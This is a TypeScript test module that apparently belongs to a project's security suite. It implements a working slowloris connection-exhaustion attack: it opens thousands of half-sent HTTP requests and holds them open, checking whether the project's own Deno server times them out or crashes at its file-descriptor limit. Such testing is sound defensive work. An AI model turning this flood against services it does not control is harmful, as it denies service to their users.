/**
 * Item 1 of issue 8: connections that send the start of a request's headers
 * and never finish them. `Deno.serve` neither timed them out nor survived
 * running out of descriptors: the process exited at its open-file limit.
 *
 * @module
 */
import { readOpenFileLimit } from "../../../http/descriptor_budget.ts";
import type { Attack, AttackSize } from "./attack.ts";

/** How many half-sent connections each size opens: full is what one process here can hold. */
export const SLOWLORIS_CONNECTIONS: Record<AttackSize, number> = { small: 1_000, full: 20_000 };

// The attacker must stay below its own open-file limit too: Deno panics there.
const ATTACKER_SPARE_DESCRIPTORS = 1024;
const OPENERS = 8;
/** Consecutive failures to connect after which the service counts as gone. */
const GIVE_UP_AFTER_FAILURES = 50;

const PARTIAL_REQUEST = new TextEncoder().encode("GET /health HTTP/1.1\r\nHost: x\r\n");

/** What the attacker saw. */
export interface SlowlorisResult {
  /** Connections established that sent their partial headers. */
  opened: number;
  /** Connection attempts that failed. */
  failed: number;
  /** Connections the service closed (or reset) while the attacker kept them. */
  closedByService: number;
  /** Connections still open when the attacker gave up waiting, closed by it. */
  stillOpen: number;
  /** Most connections the attacker held at once. */
  maxHeld: number;
  /** Seconds from the first connection to the last one opened. */
  floodSeconds: number;
  /** Seconds from the last connection opened until the last one was closed by the service. */
  drainSeconds: number;
}

/**
 * Opens `connections` connections to `base` that each send
 * `GET /health HTTP/1.1\r\nHost: x\r\n` and nothing more, holding each open
 * until the service closes it (at most what this process's own open-file
 * limit allows at once), then waits up to `waitMs` for the service to close
 * the rest.
 */
export async function slowloris(
  base: string,
  { connections, waitMs }: { connections: number; waitMs: number },
): Promise<SlowlorisResult> {
  const { hostname, port } = new URL(base);
  const maxHeld = Math.max(1, readOpenFileLimit() - ATTACKER_SPARE_DESCRIPTORS);
  const held = new Set<Deno.Conn>();
  const result: SlowlorisResult = {
    opened: 0,
    failed: 0,
    closedByService: 0,
    stillOpen: 0,
    maxHeld: 0,
    floodSeconds: 0,
    drainSeconds: 0,
  };
  // Openers waiting for the service to close something before opening more.
  let waiting: (() => void)[] = [];
  let lastClose = 0;
  let started = 0;
  let failuresInARow = 0;
  const started0 = performance.now();

  const hold = async (conn: Deno.Conn) => {
    const sink = new Uint8Array(64);
    try {
      while (await conn.read(sink) !== null) { /* whatever it answers, keep waiting */ }
    } catch {
      // Reset by the service, or closed by us at the end.
    }
    if (held.delete(conn)) {
      result.closedByService++;
      lastClose = performance.now();
      try {
        conn.close();
      } catch { /* already closed */ }
    }
    for (const resume of waiting) resume();
    waiting = [];
  };

  const opener = async () => {
    while (started < connections && failuresInARow < GIVE_UP_AFTER_FAILURES) {
      while (held.size >= maxHeld) await new Promise<void>((resolve) => waiting.push(resolve));
      if (started >= connections) break;
      started++;
      try {
        const conn = await Deno.connect({ hostname, port: Number(port) });
        held.add(conn);
        result.maxHeld = Math.max(result.maxHeld, held.size);
        await conn.write(PARTIAL_REQUEST);
        result.opened++;
        failuresInARow = 0;
        hold(conn);
      } catch {
        result.failed++;
        failuresInARow++;
      }
    }
  };
  await Promise.all(Array.from({ length: OPENERS }, opener));
  const floodEnd = performance.now();
  result.floodSeconds = (floodEnd - started0) / 1000;
  const deadline = floodEnd + waitMs;
  while (held.size > 0 && performance.now() < deadline) {
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  result.drainSeconds = Math.max(0, (lastClose - floodEnd) / 1000);
  result.stillOpen = held.size;
  for (const conn of [...held]) {
    held.delete(conn);
    conn.close();
  }
  return result;
}

/** The attacks of this file. */
export const attacks: Attack[] = [{
  name: "slowloris",
  item: 1,
  // The production default, which the benchmark's server raises for its load tests.
  env: { MAX_CONNECTIONS_PER_ADDRESS: "256" },
  async run(target, size) {
    // Waits past the default 10 s header timeout.
    const waitMs = 15_000;
    const r = await slowloris(target.base, { connections: SLOWLORIS_CONNECTIONS[size], waitMs });
    return `${r.opened} half-sent connections in ${
      r.floodSeconds.toFixed(1)
    } s (${r.failed} failed, ` +
      `${r.maxHeld} held at once): ${r.closedByService} closed by the service, the last ` +
      `${r.drainSeconds.toFixed(1)} s after the flood; ${r.stillOpen} still open after ${
        waitMs / 1000
      } s`;
  },
}];
